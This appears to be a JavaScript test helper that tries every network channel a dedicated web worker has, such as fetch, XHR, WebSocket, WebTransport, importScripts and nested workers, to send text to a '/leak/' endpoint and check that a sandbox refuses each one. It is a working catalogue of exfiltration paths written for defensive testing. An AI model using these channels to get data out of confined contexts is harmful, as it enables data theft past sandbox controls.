// Every way that a script in a dedicated worker has of reaching a network. The
// function is handed to the room as it stands, so it uses nothing from outside.

/** Channels that exist only towards the room's own origin. */
export const ownOriginOnlyInRoom = new Set(['nested-worker', 'nested-worker-module']);

/**
 * Runs one attack, or, with channel undefined, returns the names of all.
 * @returns {Promise<string | string[]>} "tried", or how the browser refused at once
 */
export async function attackFromRoom({ channel, origin, text }) {
  const address = `${origin}/leak/${channel}?text=${encodeURIComponent(text)}`;
  const objectAddress = (words) => URL.createObjectURL(new Blob([words], { type: 'text/javascript' }));
  const fetching = `fetch(${JSON.stringify(address)}).catch(() => {})`;
  const channels = {
    fetch: () => fetch(address),
    'fetch-post': () => fetch(address, { method: 'POST', mode: 'no-cors', body: text }),
    'fetch-keepalive': () => fetch(address, { method: 'POST', mode: 'no-cors', keepalive: true, body: text }),
    'cache-add': async () => (await caches.open('attack')).add(address),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', address);
      request.send(text);
    },
    'xhr-sync': () => {
      const request = new XMLHttpRequest();
      request.open('GET', address, false);
      request.send();
    },
    websocket: () => new WebSocket(address.replace('http', 'ws')),
    'websocket-stream': () => new WebSocketStream(address.replace('http', 'ws')).opened,
    'event-source': () => new EventSource(address),
    'web-transport': () => new WebTransport(address.replace('http', 'https')).ready,
    'font-object': () => new FontFace('attack', `url("${address}")`).load(),
    'import-scripts': () => importScripts(address),
    'import-scripts-object-address': () => importScripts(objectAddress(fetching)),
    'dynamic-import': () => import(address),
    eval: () => (0, eval)(fetching),
    'nested-worker': () => new Worker(address),
    'nested-worker-module': () => new Worker(address, { type: 'module' }),
    'nested-worker-object-address': () => new Worker(objectAddress(fetching)),
  };
  if (!channel) return Object.keys(channels);
  try {
    const late = new Promise((done) => setTimeout(done, 1000));
    await Promise.race([channels[channel](), late]);
    return 'tried';
  } catch (refusal) {
    return `${refusal?.name}: ${String(refusal?.message).slice(0, 120)}`;
  }
}
